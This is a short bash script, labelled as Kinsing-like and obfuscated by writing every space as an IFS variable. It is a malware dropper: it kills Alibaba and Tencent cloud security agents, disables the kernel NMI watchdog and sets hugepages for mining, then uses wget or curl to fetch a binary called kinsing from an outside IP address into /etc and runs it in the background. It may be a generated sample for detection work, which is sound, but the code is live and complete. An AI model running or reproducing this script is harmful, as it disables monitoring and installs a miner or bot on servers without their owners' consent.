#${IFS}run${IFS}6049${IFS}v0
#!/bin/bash
#$IFS$9Kinsing-like:${IFS}disable$IFS$9security${IFS}and${IFS}fetch${IFS}the${IFS}bot
ps${IFS}aux${IFS}|${IFS}grep${IFS}-v${IFS}grep${IFS}|$IFS$9grep$IFS$9-i${IFS}'aliyun\|aegis\|qcloud'${IFS}|$IFS$9awk$IFS$9'{print$IFS$9$2}'$IFS$9|${IFS}xargs${IFS}-I${IFS}%${IFS}kill${IFS}-9${IFS}%
echo${IFS}0$IFS$9>${IFS}/proc/sys/kernel/nmi_watchdog
echo${IFS}'vm.nr_hugepages=128'${IFS}>>$IFS$9/etc/sysctl.conf
LDR="wget$IFS$9-q$IFS$9-O${IFS}-";$IFS$9if${IFS}[${IFS}-s$IFS$9/usr/bin/curl${IFS}];$IFS$9then${IFS}LDR="curl";${IFS}fi
$LDR${IFS}http://192.0.2.44/kinsing${IFS}>$IFS$9/etc/kinsing;${IFS}chmod$IFS$9+x$IFS$9/etc/kinsing;${IFS}/etc/kinsing${IFS}&
